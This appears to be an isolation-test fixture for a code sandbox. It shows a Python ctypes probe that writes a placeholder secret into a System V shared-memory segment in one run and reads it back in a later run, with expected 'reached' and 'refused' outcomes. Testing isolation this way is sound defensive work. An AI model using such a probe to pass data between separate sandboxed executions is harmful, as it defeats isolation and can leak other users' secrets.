# weakness: host ipc
# goal: leave shared memory for the next execution
# reached: "$SECRET"
# refused: FileNotFoundError
import ctypes

from attack import LIBC, checked

CREATE = 0o1000
segment = checked(LIBC.shmget(0x6D63_6501, ctypes.c_size_t(4096), CREATE | 0o600))
at = checked(LIBC.shmat(segment, None, 0))
ctypes.memmove(at, b"$SECRET", 32)
# --- after ---
import ctypes

from attack import LIBC, checked

REMOVE = 0
segment = checked(LIBC.shmget(0x6D63_6501, ctypes.c_size_t(4096), 0o600))
at = checked(LIBC.shmat(segment, None, 0))
LIBC.shmctl(segment, REMOVE, None)
result = ctypes.string_at(at, 32).decode()
